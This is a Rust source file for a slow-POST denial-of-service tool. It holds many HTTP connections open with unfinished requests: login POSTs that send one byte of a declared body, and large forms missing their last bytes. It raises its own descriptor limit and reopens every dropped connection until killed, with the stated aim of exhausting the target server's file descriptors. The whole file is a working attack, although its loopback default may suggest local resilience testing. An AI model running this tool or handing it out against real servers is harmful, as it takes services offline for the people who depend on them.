//! Holds requests that are never finished: heads of a POST with one byte of the body, and forms without their last bytes.
//!
//! It needs no session, as anybody on the network does not. A connection that the server closes or answers is opened again
//! after a while, so that what is held stays as much as the server lets it. It goes on until it is killed.

use std::net::{Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use clap::Parser;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpSocket;
use tokio::time::{sleep, timeout};

#[derive(Parser)]
struct Args {
    /// The server's address.
    #[arg(long)]
    to: SocketAddr,
    /// Loopback addresses that they come from, in turn.
    #[arg(long, default_value = "127.0.0.1")]
    source: Vec<Ipv4Addr>,
    /// How many send the head of a log-in and one byte.
    #[arg(long, default_value_t = 0)]
    half_sent: usize,
    /// How many send a form and withhold its last bytes.
    #[arg(long, default_value_t = 0)]
    forms: usize,
    #[arg(long, default_value_t = 2_000_000)]
    form_bytes: usize,
    /// Where the forms go, in turn.
    #[arg(long, default_value = "/login")]
    form_path: Vec<String>,
    /// How long a connection that was closed stays closed.
    #[arg(long, default_value_t = 2_000)]
    again_ms: u64,
}

/// Bytes of each form that never come.
const WITHHELD: usize = 10;

/// How long a server may take to refuse a form by its head.
const REFUSAL: Duration = Duration::from_millis(100);

struct Request {
    head: String,
    body: Arc<[u8]>,
}

impl Request {
    fn new(to: SocketAddr, path: &str, declared: usize, body: Arc<[u8]>) -> Self {
        let kind = "application/x-www-form-urlencoded";
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {to}\r\nOrigin: http://{to}\r\nContent-Type: {kind}\r\nContent-Length: {declared}\r\n\r\n"
        );
        Self { head, body }
    }

    /// Returns when the server has answered or closed, or does not take it.
    async fn hold(&self, source: Ipv4Addr, to: SocketAddr) -> std::io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.bind((source, 0).into())?;
        let mut stream = socket.connect(to).await?;
        stream.write_all(self.head.as_bytes()).await?;
        let mut answer = [0; 1024];
        // One that is refused at once need not be sent.
        if timeout(REFUSAL, stream.read(&mut answer)).await.is_ok() {
            return Ok(());
        }
        stream.write_all(&self.body).await?;
        stream.read(&mut answer).await.map(drop)
    }
}

/// As many descriptors as the system lets this program have.
fn take_descriptors(wanted: usize) -> Result<(), Box<dyn std::error::Error>> {
    // SAFETY: both calls only read or write the struct they are given.
    let had = unsafe {
        let mut limit: libc::rlimit = std::mem::zeroed();
        libc::getrlimit(libc::RLIMIT_NOFILE, &mut limit);
        limit.rlim_cur = limit.rlim_max;
        libc::setrlimit(libc::RLIMIT_NOFILE, &limit);
        limit.rlim_max
    };
    if had < wanted as libc::rlim_t + 50 {
        return Err(format!("{wanted} connections need more than the {had} descriptors there are").into());
    }
    Ok(())
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), Box<dyn std::error::Error>> {
    let args = Args::parse();
    take_descriptors(args.half_sent + args.forms)?;
    let (to, again) = (args.to, Duration::from_millis(args.again_ms));
    let half_sent = Arc::new(Request::new(to, "/login", 30, Arc::from(*b"e")));
    let form: Arc<[u8]> = vec![b'a'; args.form_bytes.saturating_sub(WITHHELD)].into();
    let forms: Vec<_> =
        args.form_path.iter().map(|path| Arc::new(Request::new(to, path, args.form_bytes, form.clone()))).collect();
    // The forms first: once the server has no descriptor left, it takes nothing more.
    let requests =
        (0..args.forms).map(|at| forms[at % forms.len()].clone()).chain(std::iter::repeat_n(half_sent, args.half_sent));
    let sources = args.source.iter().copied().cycle();
    for (request, source) in requests.zip(sources) {
        tokio::spawn(async move {
            loop {
                // What goes wrong here is a server that defends itself.
                let _ = request.hold(source, to).await;
                sleep(again).await;
            }
        });
        // One after the other, as a queue of connections takes them.
        sleep(Duration::from_millis(1)).await;
    }
    println!("hold to={to} half_sent={} forms={}", args.half_sent, args.forms);
    std::future::pending::<()>().await;
    Ok(())
}
